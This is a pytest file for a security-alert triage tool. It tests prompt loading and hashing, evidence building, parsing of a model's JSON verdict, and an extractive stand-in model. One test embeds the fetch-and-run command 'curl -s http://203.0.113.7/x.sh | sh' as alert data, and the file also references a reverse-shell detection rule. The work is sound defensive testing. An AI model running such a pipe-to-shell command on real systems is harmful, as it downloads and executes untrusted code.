"""Prompts: loading and hashing, evidence in and out of chat messages, reading answers back."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from sentinel.settings import PROJECT_ROOT
from services.gateway.extractive import ExtractiveModel
from streams.triage.prompts import (
    PROMPTS_DIR,
    PromptError,
    TriageFormatError,
    build_messages,
    evidence_from_messages,
    list_prompts,
    load_prompt,
    parse_triage,
    rule_metadata,
)

ALERT = json.loads(
    (PROJECT_ROOT / "contracts/examples/valid/alert-curl-pipe-shell.json").read_text()
)


def _evidence(**enrichment: dict) -> dict:
    return {"alert": ALERT, "rule": rule_metadata(ALERT["rule"]["id"]), "enrichment": enrichment}


def test_every_shipped_prompt_loads_with_the_hash_of_its_file() -> None:
    prompts = {p.id: p for p in list_prompts()}
    assert {"triage-v1", "triage-terse"} <= prompts.keys()
    for prompt in prompts.values():
        raw = (PROMPTS_DIR / f"{prompt.id}.yaml").read_bytes()
        assert prompt.sha256 == hashlib.sha256(raw).hexdigest()
        assert prompt.ref == {"id": prompt.id, "version": prompt.version, "sha256": prompt.sha256}


def test_an_unknown_prompt_names_the_known_ones() -> None:
    with pytest.raises(PromptError, match=r"no prompt 'nope'.*triage-v1"):
        load_prompt("nope")


def test_a_prompt_with_an_unknown_section_is_refused(tmp_path: Path) -> None:
    (tmp_path / "odd.yaml").write_text(
        "id: odd\nversion: 1\nsystem: s\ninstructions: i\ninclude: [alert, secrets]\n"
    )
    with pytest.raises(PromptError, match=r"odd.yaml: include has \['secrets'\]"):
        load_prompt("odd", tmp_path)


def test_rule_metadata_comes_from_the_core_pack() -> None:
    meta = rule_metadata("core.reverse_shell")
    assert meta["title"] == "Reverse shell command line"
    assert meta["severity"] == "critical" and meta["mitre"] == ["T1059.004"]
    assert "socket" in meta["description"]
    assert rule_metadata("core.not_a_rule") == {"id": "core.not_a_rule"}


def test_the_evidence_block_holds_exactly_the_sections_the_prompt_includes() -> None:
    evidence = _evidence(host={"role": "web"})
    full = evidence_from_messages(build_messages(load_prompt("triage-v1"), evidence))
    assert full == {
        "alert": ALERT,
        "rule": evidence["rule"],
        "enrichment": {"host": {"role": "web"}},
    }
    terse = evidence_from_messages(build_messages(load_prompt("triage-terse"), evidence))
    assert terse == {
        "headline": {
            "title": ALERT["title"],
            "severity": "high",
            "host": "web-1",
            "rule_id": "core.curl_pipe_shell",
        }
    }


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("I think it is bad", "no JSON object"),
        ('{"verdict": "evil", "confidence": 1, "summary": "x"}', "verdict is 'evil'"),
        ('{"verdict": "benign", "confidence": 1.5, "summary": "x"}', "outside 0..1"),
        ('{"verdict": "benign", "confidence": "high", "summary": "x"}', "expected a number"),
        ('{"verdict": "benign", "confidence": 0.5, "summary": " "}', "summary is missing"),
        ('{"verdict": "benign", "confidence": 0.5, "summary": "x", "mitre": ["T59"]}', "T59"),
        (
            '{"verdict": "benign", "confidence": 0.5, "summary": "x", "recommended_actions": "x"}',
            "list of strings",
        ),
    ],
)
def test_a_malformed_answer_says_which_field_is_wrong(content: str, reason: str) -> None:
    with pytest.raises(TriageFormatError, match=reason):
        parse_triage(content)


def test_a_fenced_answer_with_prose_around_it_is_read() -> None:
    answer = parse_triage(
        'Here you go:\n```json\n{"verdict": "true_positive", "confidence": 0.9, "summary": "s",'
        ' "mitre": ["T1059.004", "T1059.004"]}\n```\nDone.'
    )
    assert (answer.verdict, answer.confidence, answer.mitre) == (
        "true_positive",
        0.9,
        ["T1059.004"],
    )


def test_extractive_model_cites_threat_intel_and_calls_it_malicious() -> None:
    evidence = _evidence(
        dst_ip={"indicator": "203.0.113.7", "reputation": "malicious", "tags": ["dropper"]}
    )
    answer = parse_triage(
        ExtractiveModel().complete(build_messages(load_prompt("triage-v1"), evidence))
    )
    assert answer.verdict == "true_positive" and answer.confidence >= 0.8
    assert "web-1" in answer.summary and "203.0.113.7" in answer.summary
    assert "curl -s http://203.0.113.7/x.sh | sh" in answer.summary
    assert answer.mitre == ALERT["mitre"]
    assert any("web-1" in a for a in answer.recommended_actions)


def test_extractive_model_calls_expected_activity_of_an_allowlisted_host_benign() -> None:
    evidence = _evidence(host={"role": "build", "owner": "team-ci", "allowlisted": True})
    answer = parse_triage(
        ExtractiveModel().complete(build_messages(load_prompt("triage-v1"), evidence))
    )
    assert answer.verdict == "benign"
    assert "allow-list" in " ".join(answer.recommended_actions)


def test_extractive_model_without_evidence_only_asks_for_review() -> None:
    answer = parse_triage(
        ExtractiveModel().complete(build_messages(load_prompt("triage-terse"), _evidence()))
    )
    assert answer.verdict == "needs_review" and answer.confidence < 0.5
    assert answer.mitre == [] and "No evidence" in answer.summary
